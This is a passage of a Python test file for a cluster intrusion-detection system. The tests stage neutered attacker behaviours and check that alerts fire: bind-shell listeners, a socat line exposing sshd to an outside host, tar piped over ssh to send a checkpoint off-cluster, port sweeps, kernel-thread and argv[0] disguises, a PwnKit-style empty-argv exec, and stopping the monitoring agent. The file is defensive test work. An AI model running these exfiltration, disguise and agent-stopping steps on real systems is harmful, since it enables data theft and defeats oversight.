    nc.parent.mkdir(exist_ok=True)
    nc.write_text(FAKE_NC.format(python=PYTHON))
    nc.chmod(0o755)
    apply_policy(stack, "lists:\n  cluster_networks: [192.168.0.0/16]\n")     # the netns peer is outside it
    proc = popen_in_cgroup(cg, [str(nc), "-l", "-p", "0"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        port = int(proc.stdout.readline())
        got = alerts(stack, job, {"bind-shell-listener"})
        with netns_peer() as ns:                      # then someone outside connects in: the two together
            dial_in(ns, port)
            reached = alerts(stack, job, {"listener-reached-from-outside"})
    finally:
        proc.kill()
        proc.wait(5)
    assert any(a["rule_id"] == "listener-reached-from-outside" and a["severity"] == "critical" for a in reached)
    hit = next(a for a in got if a["rule_id"] == "bind-shell-listener")
    assert hit["matched"]["exe_name_in"] == "nc" and hit["process"]["pid"] == proc.pid
    listening = cli_json(stack["port"], "timeline", job, "--kind", "listen")["events"]
    assert [e["event"]["listen"]["port"] for e in listening] == [port]


def test_a_process_dressed_as_a_kernel_thread_is_alerted(stack):
    """argv[0] set to "[kworker/0:1]" (how miners hide in ps): kernel threads are never executed, so the exec
    record itself gives it away - whatever the binary, its traffic or its GPU use."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    disguise = "import os, sys; os.execv('/bin/true', ['[kworker/0:1]'])"
    assert run_in_cgroup(cg, [PYTHON, "-c", disguise], timeout=30).returncode == 0
    got = alerts(stack, job, {"kernel-thread-masquerade"}, states=("ALERT_ALERTED",))
    hit = next(a for a in got if a["rule_id"] == "kernel-thread-masquerade")
    assert hit["matched"]["argv_regex"].startswith("[kworker")                 # what the rule saw in argv[0]


def test_a_netcat_reaching_outside_the_cluster_is_alerted(stack):
    """`socat TCP:outside:443 TCP:127.0.0.1:22` hands the node's sshd to someone outside; its argv says nothing a
    reverse-shell rule knows. Whom a netcat-like tool reaches does: outside this site's networks."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    apply_policy(stack, "lists:\n  cluster_networks: [192.168.0.0/16]\n")     # the netns peer is outside it
    socat = stack["tmp"] / "bin" / "socat"
    socat.parent.mkdir(exist_ok=True)
    socat.write_text(f"#!{PYTHON}\nimport socket, sys\ntry:\n    socket.create_connection((sys.argv[1], 443), "
                     "timeout=3).close()\nexcept OSError:\n    pass\n")
    socat.chmod(0o755)
    with netns_peer() as ns:
        assert run_in_cgroup(cg, [str(socat), ns.ns_ip], timeout=30).returncode == 0
        got = alerts(stack, job, {"netcat-connect-out"})
    hit = next(a for a in got if a["rule_id"] == "netcat-connect-out")
    assert hit["matched"]["daddr_not_in"] == ns.ns_ip and hit["matched"]["exe_name_in"] == "socat"


def test_a_transfer_piped_into_ssh_outside_the_cluster_is_alerted(stack):
    """`tar ... | ssh host 'cat > x'` sends data off the cluster whatever the host is called: the shell line is a
    transfer (a signal), the ssh it starts connects outside this site's networks (another), and the two in one
    process tree are the alert. Real tar, real ssh, a netns peer with nothing listening (the connect is refused)."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    apply_policy(stack, "lists:\n  cluster_networks: [192.168.0.0/16]\n")     # the netns peer is outside it
    data = stack["tmp"] / f"ckpt-{job}"
    data.mkdir()
    (data / "model.pt").write_bytes(b"\0" * 4096)
    with netns_peer() as ns:
        line = (f"tar cf - -C {data} model.pt | ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no "
                f"-o UserKnownHostsFile=/dev/null u@{ns.ns_ip} 'cat > ckpt.tar'")
        run = run_in_cgroup(cg, ["/bin/sh", "-c", line], capture_output=True, text=True, timeout=60)
        assert run.returncode != 0 and "ssh" in run.stderr          # refused: nobody listens in the peer
        hit = the_alert(stack, job, "data-transfer-leaves-cluster")
    assert hit["severity"] == "high", hit


def test_a_port_sweep_is_alerted_by_what_it_does(stack):
    """A scan written in a few lines of Python (no scanner's name, no argv to read): one process fails to connect to
    many distinct destinations. The kernel records each connect and its outcome (refused), the collector counts
    the distinct failed destinations per process. Closed loopback ports: nothing leaves this host."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    sweep = ("import socket\nfor port in range(1, 41):\n    s = socket.socket()\n    try:\n"
             "        s.connect(('127.0.0.1', 47000 + port))\n    except OSError:\n        pass\n    s.close()\n")
    assert all(_free(47000 + p) for p in range(1, 41)), "the swept ports must be closed on this host"
    assert run_in_cgroup(cg, [PYTHON, "-c", sweep], timeout=30).returncode == 0
    got = alerts(stack, job, {"connect-fanout-failed"})
    hit = next(a for a in got if a["rule_id"] == "connect-fanout-failed")
    assert "distinct destinations failed" in hit["matched"]["failed_fanout_at_least"]


def test_a_single_refused_destination_retried_is_not_a_sweep(stack):
    """A rendezvous retry loop fails at one destination many times: quiet. The positive signal that detection has
    seen every one of those connects: the same process then execs under a kernel thread's name, an alert that can
    only come after them (one process, in kernel order)."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    assert _free(47100)
    retry = ("import os, socket, time\nfor _ in range(40):\n    s = socket.socket()\n    try:\n"
             "        s.connect(('127.0.0.1', 47100))\n    except OSError:\n        pass\n    s.close()\n"
             "os.execv('/bin/true', ['[kworker/0:2]'])\n")
    assert run_in_cgroup(cg, [PYTHON, "-c", retry], timeout=30).returncode == 0
    got = alerts(stack, job, {"kernel-thread-masquerade"}, states=("ALERT_ALERTED",))
    assert "kernel-thread-masquerade" in {a["rule_id"] for a in got}
    assert "connect-fanout-failed" not in {a["rule_id"] for a in got}
    events = cli_json(stack["port"], "timeline", job, "--kind", "connect").get("events", [])
    assert any(e["event"].get("connect", {}).get("dport") == 47100 for e in events)   # the connects were delivered


def test_an_exec_with_no_arguments_is_alerted(stack):
    """execve(path, NULL, NULL): no argv at all, how PwnKit-style exploits start a setuid program (the kernel now
    supplies an empty argv[0]). The exec record says so whatever the program is; here a harmless /bin/true."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    empty = "import ctypes\nctypes.CDLL(None, use_errno=True).execve(b'/bin/true', None, None)\nraise SystemExit(3)\n"
    assert run_in_cgroup(cg, [PYTHON, "-c", empty], timeout=30).returncode == 0     # /bin/true ran (not our exit 3)
    got = alerts(stack, job, {"exec-empty-argv"})
    hit = next(a for a in got if a["rule_id"] == "exec-empty-argv")
    assert hit["process"]["exe"] == "/usr/bin/true" or hit["process"]["comm"] == "true"


def test_a_program_started_under_another_programs_name_is_alerted(stack):
    """argv[0] says "python3", the file executed is a copy of /bin/true in the job's directory: ps, top and every
    argv rule read the costume. The exec record carries both the file and argv[0]."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    worker = stack["tmp"] / "jobdir" / "cachesvc"
    worker.parent.mkdir(exist_ok=True)
    shutil.copy("/bin/true", worker)
    costume = f"import os\nos.execv({str(worker)!r}, ['python3', 'train.py'])\n"
    assert run_in_cgroup(cg, [PYTHON, "-c", costume], timeout=30).returncode == 0
    got = alerts(stack, job, {"argv0-disguise"})
    hit = next(a for a in got if a["rule_id"] == "argv0-disguise")
    assert "python3" in hit["matched"]["argv0_names_other_program"] and "cachesvc" in \
        hit["matched"]["argv0_names_other_program"]


def test_a_process_that_renames_itself_a_kernel_thread_after_exec_is_alerted(stack):
    """prctl(PR_SET_NAME, "kworker/0:3") after exec: the exec record says python3, so the exec-time masquerade
    rule cannot see it; the connect record carries the kernel's comm at connect time. A closed loopback port:
    nothing leaves this host."""
    job = new_job()
    cg = job_cgroup(stack, job, "step_0")
    port = next(p for p in range(47200, 47300) if _free(p))
    renamed = ("import ctypes, socket\nctypes.CDLL(None).prctl(15, b'kworker/0:3', 0, 0, 0)\n"
               f"s = socket.socket()\ntry:\n    s.connect(('127.0.0.1', {port}))\nexcept OSError:\n    pass\n")
    assert run_in_cgroup(cg, [PYTHON, "-c", renamed], timeout=30).returncode == 0
    got = alerts(stack, job, {"kernel-thread-name-at-runtime"})
    hit = next(a for a in got if a["rule_id"] == "kernel-thread-name-at-runtime")
    assert hit["matched"]["comm_regex"] == "kworker/0:3"


def test_a_job_reaching_another_jobs_listener_over_loopback_is_alerted(stack):
    """Two jobs on one node share its loopback: a notebook-like listener in one job, a connect to it from another.
    The listen and the connect are each recorded with their own job; the collector ties the port to its job."""
    owner, intruder = new_job(), new_job()
    notebook = popen_in_cgroup(job_cgroup(stack, owner, "step_0"), [PYTHON, "-c", (
        "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen(1)\n"
        "print(s.getsockname()[1], flush=True)\nc, _ = s.accept()\nc.close()\n")], stdout=subprocess.PIPE, text=True)
    try:
        port = int(notebook.stdout.readline())
        dial = f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=5).close()\n"
        assert run_in_cgroup(job_cgroup(stack, intruder, "step_0"), [PYTHON, "-c", dial], timeout=30).returncode == 0
        got = alerts(stack, intruder, {"cross-job-connect"})
        hit = next(a for a in got if a["rule_id"] == "cross-job-connect")
        assert f"where job {owner} listens" in hit["matched"]["reaches_another_jobs_listener"]
        assert "cross-job-connect" not in {a["rule_id"] for a in alerts(stack, owner, timeout=0)}
    finally:
        notebook.kill()
        notebook.wait(5)


def test_a_job_that_stops_the_agent_by_its_number_is_alerted_and_its_sender_killed(stack):
    """`kill -STOP <agent pid>` typed by number: no argv rule knows whose pid that is; the kernel does
    (probes/agent_guard.c). The stopped agent reports it once it runs again (the test sends SIGCONT, as an operator
    would after the collector called the agent silent), and the sender is killed by the collector's order."""
    job = new_job()
    cg = job_cgroup(stack, job)
    agent_pid = stack["agent"].proc.pid
    sender = popen_in_cgroup(cg, ["/bin/sh", "-c", f"kill -STOP {agent_pid} && exec sleep 120"])
    try:
        deadline = time.monotonic() + 20
        while Path(f"/proc/{agent_pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "T":
            assert time.monotonic() < deadline and sender.poll() is None, "the agent was never stopped"
            time.sleep(0.05)
        os.kill(agent_pid, signal.SIGCONT)
        got = alerts(stack, job, {"agent-signalled-from-job"}, timeout=30,
                     states=("ALERT_KILL_ORDERED", "ALERT_ALREADY_KILLED", "ALERT_CONFIRMED"))
        by_rule = {a["rule_id"]: a for a in got}
        assert "agent-signalled-from-job" in by_rule, sorted(by_rule)
        alert = by_rule["agent-signalled-from-job"]
        assert alert["matched"]["agent_signal"].startswith(f"SIGSTOP sent to the agent (pid {agent_pid})"), alert
        assert sender.wait(30) == -9                               # the kill order, carried out by the agent
    finally:
        if sender.poll() is None:
            sender.kill()
        sender.wait(10)
        if Path(f"/proc/{agent_pid}").exists():
            os.kill(agent_pid, signal.SIGCONT)                     # never leave the agent stopped for teardown
